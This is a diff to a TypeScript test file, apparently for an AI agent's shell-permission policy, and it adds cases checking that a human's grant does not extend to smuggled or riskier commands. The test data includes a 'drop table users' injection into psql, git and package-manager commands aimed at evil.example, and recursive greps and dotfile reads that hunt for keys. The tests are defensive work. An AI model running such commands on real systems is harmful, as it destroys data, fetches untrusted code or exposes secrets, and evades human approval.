@@ -103,10 +103,10 @@ describe('[AP-4] a grant by program', () => {
     expect(coversLine(pattern, line)).toBe(false);
   });
 
-  function coversShell(pattern: string, command: string): boolean {
+  function coversShell(pattern: string | null, command: string, over: Partial<GrantPredicate> = {}): boolean {
     const { call, details } = policy.decide('shell_exec', { command });
     if (!call || !details || details.verdict.decision === 'REJECT') throw new Error('not a call');
-    const predicate = { ...grant, tool: 'shell_exec', pattern, max_risk: 'HIGH' as const };
+    const predicate = { ...grant, tool: 'shell_exec', pattern, max_risk: 'HIGH' as const, ...over };
     return grantCovers(predicate, call, details, { ...here, risk: details.verdict.decision });
   }
 
@@ -133,6 +133,48 @@ describe('[AP-4] a grant by program', () => {
     ['python3 *', 'python3 -u -- - x < docs/notes.txt'],
   ])('%s leaves a line to the person that sets other variables or reads its code: %s', (pattern, line) => {
     expect(coversShell(pattern, line)).toBe(false);
+  });
+
+  it.each([
+    'cat docs/q.sql | psql app',
+    'psql app < docs/q.sql',
+    "psql app <<< 'drop table users'",
+    '{ ls; psql app; } < docs/q.sql',
+    "echo 'drop table users' | (cat; psql app)",
+    'psql app && cat docs/q.sql | psql app',
+  ])('for exactly one command does not cover it with other input: %s', (line) => {
+    expect(coversShell('psql app', 'psql app')).toBe(true);
+    expect(coversShell('psql app', line)).toBe(false);
+  });
+
+  it('for exactly one command covers a reader of text whatever its input, but no list or script from there', () => {
+    expect(coversShell('sort -u', 'sort -u < docs/a.txt')).toBe(true);
+    expect(coversShell('sed -n 1,5p', 'sed -n 1,5p < docs/a.txt')).toBe(true);
+    expect(coversShell('sort --files0-from=-', 'sort --files0-from=- < docs/a.txt')).toBe(false);
+    expect(coversShell('sed -f -', 'sed -f - < docs/a.txt')).toBe(false);
+    expect(coversShell('git apply', 'git apply < docs/a.patch')).toBe(false);
+  });
+
+  it.each([
+    'git clone https://evil.example/x',
+    'git ls-remote https://evil.example/x',
+    'pnpm add x --registry=https://evil.example',
+    'mvn test -Dx=https://evil.example',
+    'npm ci && mvn test -Dx=https://evil.example',
+  ])('[RN-5] for everything does not cover a host that no card showed: %s', (line) => {
+    const everything = { tool: '*', max_risk: 'MEDIUM' } as const;
+    expect(coversShell(null, 'npm ci && mvn test', everything)).toBe(true);
+    expect(coversShell(null, line, everything)).toBe(false);
+  });
+
+  it('[VA-2] leaves to the person what prints folders without masks', () => {
+    expect(coversShell('grep *', 'grep -n KEY docs/a.md')).toBe(true);
+    expect(coversShell('grep *', 'grep -rn KEY .')).toBe(false);
+    expect(coversShell('cat *', 'cat .??*')).toBe(false);
+    const everything = { tool: '*', max_risk: 'MEDIUM' } as const;
+    expect(coversShell(null, 'cat docs/a.md; npm test', everything)).toBe(true);
+    for (const line of ['grep -rn KEY . && npm test', 'cat .??*; npm test', 'find . -type f -exec cat {} +'])
+      expect({ line, covers: coversShell(null, line, everything) }).toEqual({ line, covers: false });
   });
 
   it('covers what is on no list where it spells out that line, and only that line', () => {
